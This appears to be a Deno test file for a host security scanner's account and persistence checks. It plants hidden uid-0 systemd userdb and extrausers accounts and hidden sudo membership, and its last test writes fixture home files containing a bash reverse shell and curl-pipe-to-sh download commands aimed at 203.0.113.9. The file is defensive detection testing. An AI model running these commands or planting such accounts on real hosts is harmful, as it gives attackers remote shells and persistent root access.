/**
 * Accounts NSS returns from outside /etc/passwd: systemd's JSON user and group records (nss-systemd reads them
 * without any service running) and libnss-extrausers' files. A uid-0 record is critical, an account that can log
 * in or a membership of a root-equivalent group high; records nsswitch.conf does not read are low; a host
 * without records says nothing.
 */
import assert from "node:assert/strict";
import { accounts } from "../../src/scanners/accounts/index.ts";
import { loadNssRecords } from "../../src/scanners/accounts/nss_records.ts";
import type { Finding } from "../../src/core/finding.ts";
import { Host } from "../../src/host/host.ts";
import { makeTree, runOne } from "../helpers.ts";
import { CLEAN, H } from "./accounts_fixtures.ts";

const NSSWITCH = "passwd:         files systemd\ngroup:          files systemd\nshadow:         files\n";
const nss = (f: Finding[]) =>
  f.filter((x) => x.check_id.startsWith("accounts.nss.")).map((x) =>
    `${x.severity} ${x.check_id} ${x.metadata.path}:${x.metadata.name ?? `group:${x.metadata.group}`}`
  ).sort();

Deno.test("accounts: a uid-0 user record, a record that can log in and hidden sudo membership fire", async () => {
  using root = makeTree({
    ...CLEAN,
    "etc/passwd": CLEAN["etc/passwd"] + "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n",
    "etc/nsswitch.conf": NSSWITCH,
    "etc/userdb/sysbk.user": JSON.stringify({
      userName: "sysbk",
      uid: 0,
      gid: 0,
      homeDirectory: "/var/lib/sysbk",
      shell: "/bin/bash",
    }),
    "etc/userdb/0.user": { symlink: "sysbk.user" },
    "run/userdb/helper.user": JSON.stringify({ userName: "helper", uid: 991, shell: "/usr/sbin/nologin" }),
    "run/userdb/helper.user-privileged": JSON.stringify({ privileged: { hashedPassword: [H.sha512] } }),
    "usr/lib/userdb/sudo.group": JSON.stringify({ groupName: "sudo", gid: 27, members: ["www-data"] }),
    "run/userdb/www-data:wheel.membership": "",
    "run/userdb/alice:audio.membership": "",
    "etc/userdb/alice.user": JSON.stringify({ userName: "alice", uid: 1000, memberOf: ["docker"] }),
    "etc/userdb/svc.user": JSON.stringify({ userName: "svc", uid: 992, shell: "/usr/sbin/nologin" }),
    "etc/userdb/broken.user": "{ not json",
    "etc/userdb/nameless.user": JSON.stringify({ uid: 0 }),
    // extrausers is not in nsswitch.conf: inert until that line changes.
    "var/lib/extrausers/passwd": "xr:x:0:0::/root:/bin/bash\n",
  });
  const r = await runOne(accounts, root.path);
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(nss(r.findings), [
    "critical accounts.nss.uid0_record /etc/userdb/sysbk.user:sysbk",
    "high accounts.nss.extra_account /etc/userdb/alice.user:alice",
    "high accounts.nss.extra_account /run/userdb/helper.user:helper",
    "high accounts.nss.extra_account /run/userdb/www-data:wheel.membership:group:wheel",
    "high accounts.nss.extra_account /usr/lib/userdb/sudo.group:group:sudo",
    "low accounts.nss.uid0_record /var/lib/extrausers/passwd:xr",
    "medium accounts.nss.extra_account /etc/userdb/svc.user:svc",
  ]);
  const helper = r.findings.find((f) => f.metadata.name === "helper")!;
  assert.deepEqual(helper.metadata.credentials, ["password hash"]);
  assert.deepEqual(
    r.warnings.filter((w) => w.code === "userdb_malformed").map((w) => String(w.detail).split(":")[0]).sort(),
    ["/etc/userdb/broken.user", "/etc/userdb/nameless.user"],
  );
});

Deno.test("accounts: extrausers read when nsswitch.conf names it; a stock host without records is quiet", async () => {
  using root = makeTree({
    ...CLEAN,
    "etc/nsswitch.conf": "passwd: files extrausers\ngroup: files extrausers\n",
    "var/lib/extrausers/passwd": "ops:x:0:0::/root:/bin/bash\nsnapper:x:1001:1001::/home/snapper:/bin/bash\n",
    "var/lib/extrausers/shadow": `ops:${H.yescrypt}:19700:0:99999:7:::\nsnapper:!:19700::::::\n`,
    "var/lib/extrausers/group": "wheel:x:10:snapper\n",
  });
  const r = await runOne(accounts, root.path);
  assert.deepEqual(nss(r.findings), [
    "critical accounts.nss.uid0_record /var/lib/extrausers/passwd:ops",
    "high accounts.nss.extra_account /var/lib/extrausers/group:group:wheel",
    "high accounts.nss.extra_account /var/lib/extrausers/passwd:snapper",
  ]);
  using quiet = makeTree({
    ...CLEAN,
    "etc/nsswitch.conf": NSSWITCH,
    "etc/userdb/README": "no records here\n",
  });
  const q = await runOne(accounts, quiet.path);
  assert.equal(q.status, "ok", q.reason);
  assert.deepEqual(nss(q.findings), []);
  assert.deepEqual(q.warnings, []);
});

Deno.test("loadNssRecords: hostile record files never throw", async () => {
  const bad = [
    "",
    "null",
    "[]",
    '{"userName": 5}',
    '{"userName":"a","uid":-1}',
    '{"userName":"a","uid":1e400}',
    "{".repeat(100_000),
  ];
  for (const [i, text] of bad.entries()) {
    using root = makeTree({ "etc/nsswitch.conf": NSSWITCH, [`etc/userdb/x${i}.user`]: text });
    const r = await loadNssRecords(new Host(root.path));
    assert.equal(r.accounts.length, 0, text.slice(0, 40));
    assert.equal(r.problems.length, 1);
  }
});

Deno.test("persistence: the homes of record accounts are read like any account's", async () => {
  const { persistence } = await import("../../src/scanners/persistence/index.ts");
  const { fired } = await import("./persistence_fixtures.ts");
  using root = makeTree({
    ...CLEAN,
    "etc/nsswitch.conf": NSSWITCH,
    "etc/userdb/svc.user": JSON.stringify({
      userName: "svc",
      uid: 992,
      homeDirectory: "/var/lib/svc",
      shell: "/bin/bash",
    }),
    "var/lib/svc/.bashrc": "bash -i >& /dev/tcp/203.0.113.9/443 0>&1\n",
    "var/lib/svc/.ssh/authorized_keys": 'command="curl -s http://203.0.113.9/k | sh" ssh-ed25519 ' +
      "AAAAC3NzaC1lZDI1NTE5AAAAIHq9jXc0Ah0fBsrHcpXKkOWbUl8+/0qz+6sP0FzQ7sEo svc\n",
    "var/lib/extrausers/passwd": "snap:x:1500:1500::/home/snap:/bin/sh\n",
    "home/snap/.profile": "curl -s http://203.0.113.9/p | sh\n",
  });
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(fired(r.findings), [
    "critical persistence.command.reverse_shell /var/lib/svc/.bashrc:1",
    "high persistence.command.download_exec /home/snap/.profile:1",
    "high persistence.command.download_exec /var/lib/svc/.ssh/authorized_keys:1",
    "low persistence.ssh_key.forced_command /var/lib/svc/.ssh/authorized_keys:1",
  ]);
  const bashrc = r.findings.find((f) => f.metadata.path === "/var/lib/svc/.bashrc")!;
  assert.equal(bashrc.metadata.run_as, "svc");
});
